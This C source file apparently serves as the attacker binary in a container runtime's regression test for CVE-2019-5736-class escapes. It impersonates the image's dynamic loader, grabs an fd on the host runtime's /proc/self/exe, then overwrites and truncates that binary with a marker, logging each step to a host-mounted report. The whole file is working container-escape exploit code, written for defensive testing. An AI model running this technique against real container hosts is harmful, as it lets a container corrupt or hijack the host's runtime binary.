/* The attacker of tests/test_cve_exe_overwrite.py (CVE-2019-5736 class):
 * the image's /lib64/ld-linux-x86-64.so.2, built with
 * `gcc -static -nostdlib` (no libc: as a program interpreter its auxv
 * describes another program, which libc's start-up would misread).
 *
 * Stage 1.  The image's /bin/victim is `#!/proc/self/exe`: when the
 * runtime's binary execs it, the kernel runs whatever /proc/self/exe was
 * (the runtime's ociruntime-init) with this file as its interpreter, and
 * the exec made us dumpable again.  argv: "/proc/self/exe", "/bin/victim",
 * REPORT, MODE.  Keep an O_PATH fd on /proc/self/exe, say where it points,
 * and exec ourselves as stage 2, so that we no longer run that file.
 *
 * Stage 2.  argv: "stage2", FD, REPORT, MODE.  MODE "detach" (a hook, whose
 * caller waits for it) forks and lets the hook exit.  Then: open
 * /proc/self/fd/FD for writing, retrying while it is busy (ETXTBSY: some
 * process still executes it) for a bounded time, and overwrite its first
 * bytes with a marker, then truncate it.  Each step is one line in REPORT (a host directory
 * bound into the container); "done" last. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <sys/syscall.h>

#define MARKER "PWNED-BY-CONTAINER"

static long sys3(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static long sys4(long n, long a, long b, long c, long d)
{
    long r;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return r;
}

static size_t len(const char *s)
{
    size_t n = 0;
    while (s[n])
        n++;
    return n;
}

static int same(const char *a, const char *b)
{
    while (*a && *a == *b)
        a++, b++;
    return *a == *b;
}

static char *put(char *p, const char *s)
{
    while (*s)
        *p++ = *s++;
    return p;
}

static char *put_num(char *p, long v)
{
    char tmp[24];
    int n = 0;
    if (v < 0) {
        *p++ = '-';
        v = -v;
    }
    do
        tmp[n++] = (char)('0' + v % 10);
    while (v /= 10);
    while (n)
        *p++ = tmp[--n];
    return p;
}

static long parse_num(const char *s)
{
    long v = 0;
    while (*s >= '0' && *s <= '9')
        v = v * 10 + (*s++ - '0');
    return v;
}

static int report_fd = -1;

/* One line: WHAT, then a number (a result; negative: -errno). */
static void say(const char *what, const char *text, long num)
{
    char line[512], *p = put(line, what);
    if (text) {
        *p++ = ' ';
        p = put(p, text);
    }
    if (num != -99999) {
        *p++ = ' ';
        p = put_num(p, num);
    }
    *p++ = '\n';
    sys3(SYS_write, report_fd, (long)line, p - line);
}

static void sleep_ms(long ms)
{
    long ts[2] = {0, ms * 1000000};
    sys3(SYS_nanosleep, (long)ts, 0, 0);
}

static void stage1(char **argv, char **envp)
{
    char exe[256];
    long n = sys3(SYS_readlink, (long)"/proc/self/exe", (long)exe, sizeof exe - 1);
    exe[n > 0 ? n : 0] = '\0';
    say("exe", exe, -99999);
    long fd = sys3(SYS_open, (long)"/proc/self/exe", O_PATH, 0);
    say("opath", NULL, fd);
    if (fd < 0)
        return;
    char num[24];
    *put_num(num, fd) = '\0';
    char *args[] = {"stage2", num, argv[2], argv[3], NULL};
    long r = sys3(SYS_execve, (long)"/lib64/ld-linux-x86-64.so.2", (long)args, (long)envp);
    say("exec-stage2", NULL, r);
}

static void stage2(char **argv)
{
    long fd = parse_num(argv[1]);
    if (same(argv[3], "detach")) {
        long pid = sys3(SYS_fork, 0, 0, 0);
        if (pid != 0) {
            say("forked", NULL, pid);
            sys3(SYS_exit_group, 0, 0, 0);   /* the hook succeeds; the child goes on */
        }
        for (int i = 0; i < 3; i++)
            sys3(SYS_close, i, 0, 0);
    }
    char path[64];
    *put_num(put(path, "/proc/self/fd/"), fd) = '\0';
    long w = -ETXTBSY;
    int tries = 0;
    for (; tries < 1000 && w == -ETXTBSY; tries++) {   /* 10 s at most */
        w = sys3(SYS_open, (long)path, O_WRONLY, 0);
        if (w == -ETXTBSY)
            sleep_ms(10);
    }
    say("open-for-write", NULL, w);
    say("tries", NULL, tries);
    if (w >= 0) {
        say("write", NULL, sys4(SYS_pwrite64, w, (long)MARKER, len(MARKER), 0));
        say("truncate", NULL, sys3(SYS_ftruncate, w, 0, 0));
    }
}

void __attribute__((used)) start_c(long *sp)
{
    int argc = (int)sp[0];
    char **argv = (char **)(sp + 1), **envp = argv + argc + 1;
    if (argc >= 4) {
        report_fd = (int)sys3(SYS_open, (long)argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
        if (same(argv[0], "stage2"))
            stage2(argv);
        else
            stage1(argv, envp);
        say("done", same(argv[0], "stage2") ? "stage2" : "stage1", -99999);
    }
    sys3(SYS_exit_group, 0, 0, 0);
}

__asm__(".globl _start\n"
        "_start:\n"
        "  mov %rsp, %rdi\n"
        "  and $-16, %rsp\n"
        "  call start_c\n"
        "  hlt\n");
